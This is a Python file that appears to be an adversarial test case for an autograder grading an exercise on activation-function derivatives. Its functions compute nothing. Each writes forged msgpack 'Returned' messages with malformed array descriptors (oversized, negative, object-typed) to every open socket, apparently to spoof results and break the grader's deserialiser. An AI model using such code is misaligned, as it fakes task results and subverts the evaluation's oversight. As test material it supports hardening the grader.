# attack: arrays that are not what they say: too long, negative, of objects, of nothing
# exercise: derivatives
# deserves: at most squared_error
import os
import stat
import struct
import msgspec


def squared_error(y_hat, y):
    return (y_hat - y) ** 2 / 2


def forge(*array, data=bytes(64), kind=1):
    value = msgspec.msgpack.encode(msgspec.msgpack.Ext(kind, msgspec.msgpack.encode(array)))
    body = b"\x96\xa8Returned\x01" + value + b"\x90\x90\x90"
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, struct.pack(">II", len(body), len(data)) + body + data)
        except OSError:
            pass


def sigmoid(z):
    forge("<f8", [1 << 40], "C")


def sigmoid_deriv(z):
    forge("<f8", [-1, 8], "C")


def tanh_deriv(z):
    forge("|O", [8], "C")


def relu_deriv(z):
    forge("<f8", [1] * 64, "K")


def squared_error_deriv(y_hat, y):
    forge("<f8", [2, 2], "C")  # there are 64 bytes


def neuron_forward(x, w, b, y):
    forge("V8", ["8"], None)
